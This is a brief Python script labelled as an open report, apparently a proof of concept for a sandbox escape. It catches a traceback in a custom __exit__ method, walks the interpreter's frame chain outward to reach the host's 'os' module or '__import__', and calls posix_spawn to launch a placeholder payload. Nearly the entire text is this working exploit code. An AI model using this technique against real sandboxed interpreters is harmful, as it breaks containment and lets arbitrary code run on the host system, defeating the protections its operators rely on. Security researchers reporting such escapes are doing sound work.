# Open report: a `with` statement hands the traceback to a user __exit__; walk its frames into the host.
box = []
class Catch:
    def __enter__(self):
        return self
    def __exit__(self, kind, value, tb):
        box.append(tb)
        return True
with Catch():
    1 / 0
frame = box[0].tb_frame
while frame is not None:
    for where in ("locals", "globals", "builtins"):
        try:
            scope = frame.f_locals if where == "locals" else frame.f_globals if where == "globals" else frame.f_builtins
            if "os" in scope:
                scope["os"].posix_spawn(PYTHON, PAYLOAD_ARGV, {})
            if "__import__" in scope:
                scope["__import__"]("os").posix_spawn(PYTHON, PAYLOAD_ARGV, {})
        except Exception as e:
            print(where, e)
    frame = frame.f_back
